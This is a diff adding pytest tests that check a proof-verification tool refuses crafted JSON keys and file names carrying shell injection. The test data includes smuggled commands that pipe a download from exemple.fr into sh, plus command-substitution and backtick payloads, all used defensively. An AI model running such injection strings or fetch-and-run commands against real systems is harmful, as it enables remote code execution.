@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import hashlib
 import io
 import json
@@ -62,6 +63,31 @@ def test_of_a_file_that_was_altered_no_page_is_made(proof):
         page_of(json.dumps(file).encode(), "preuve.json")
     with pytest.raises(AppError, match="n’est pas une liste d’accusés"):
         page_of(b"{}", "preuve.json")
+
+
+def test_what_is_no_key_in_a_crafted_file_is_printed_as_no_command(proof):
+    """Somebody hands over a file; whoever reads its page types what stands there."""
+    file = json.loads(proof.read_text())
+    file["earlier_keys"] = ["x; curl exemple.fr | sh; #"]
+    with pytest.raises(AppError, match="n’est pas une liste d’accusés"):
+        page_of(json.dumps(file).encode(), "preuve.json")
+
+
+@pytest.mark.parametrize(
+    "name", ['p"; curl exemple.fr | sh; ".json', "p$(curl exemple.fr).json", "p`id`.json", "%x%.json"]
+)
+def test_a_name_that_a_shell_would_read_stands_in_no_command(proof, name):
+    page = words(page_of(proof.read_bytes(), name))
+    assert "perronreceipts--checkFICHIER--receipt-key" in page
+
+
+def test_each_key_that_is_printed_is_to_be_compared_not_one_of_them(proof):
+    """A crafted file has the Department's key, and as a key of before the one that signed."""
+    file = json.loads(proof.read_text())
+    file["earlier_keys"] = [base64.b64encode(bytes(32)).decode()]
+    page = words(page_of(json.dumps(file).encode(), "preuve.json"))
+    assert "chacunedecellesimpriméesplushautdoitenêtre" in page
+    assert file["earlier_keys"][0] in page
 
 
 def test_more_than_anybody_reads_stays_a_file(proof, monkeypatch):
